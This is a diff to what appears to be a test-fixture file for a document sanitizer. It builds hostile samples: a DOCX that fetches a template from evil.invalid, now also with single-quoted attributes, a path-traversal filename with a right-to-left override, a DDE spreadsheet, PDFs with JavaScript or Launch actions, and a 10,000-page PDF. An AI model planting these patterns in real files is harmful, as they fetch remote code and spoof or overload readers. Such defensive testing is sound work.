@@ -244,7 +244,7 @@ def locked_zip() -> bytes:
     return bytes(data)
 
 
-def linked_docx() -> bytes:
+def linked_docx(quote: bytes = b'"') -> bytes:
     """A document whose template is fetched from elsewhere when it is opened."""
     link = (
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
@@ -252,6 +252,7 @@ def linked_docx() -> bytes:
         b'relationships/attachedTemplate" Target="http://evil.invalid/t.dotm" '
         b'TargetMode="External"/></Relationships>'
     )
+    link = link.replace(b'"', quote)
     return with_part(docx("通知"), "word/_rels/settings.xml.rels", link)
 
 
@@ -360,7 +361,12 @@ KEPT: dict[str, tuple[str, Made, str, str]] = {
         "通知.docx",
         "",
     ),
-    "ten thousand pages": ("大.pdf", partial(pdf, pages=10_000), "大.pdf", ""),
+    "ten thousand pages": (
+        "大.pdf",
+        partial(_stream_pdf, zlib.compress(b"BT ET"), b"/FlateDecode", pages=10_000),
+        "大.pdf",
+        "",
+    ),
     "tricky name": ("..\\..\\a\u202excod.docx", partial(docx, "通知"), "a_xcod.docx", ""),
     "long name": ("会" * 200 + ".docx", partial(docx, "通知"), "会" * 115 + ".docx", ""),
     "emoji": ("📎👍.docx", partial(docx, "通知"), "📎👍.docx", ""),
@@ -373,6 +379,12 @@ KEPT: dict[str, tuple[str, Made, str, str]] = {
         "macros",
     ),
     "template elsewhere": ("方案.docx", linked_docx, "方案.docx", "active"),
+    "template in other quotes": (
+        "方案.docx",
+        lambda: linked_docx(b"'"),
+        "方案.docx",
+        "active",
+    ),
     "another program": ("表.xlsx", dde_xlsx, "表.xlsx", "active"),
     "script": ("方案.pdf", partial(acting_pdf, b"JavaScript"), "方案.pdf", "active"),
     "launch": ("方案.pdf", partial(acting_pdf, b"L#61unch"), "方案.pdf", "active"),
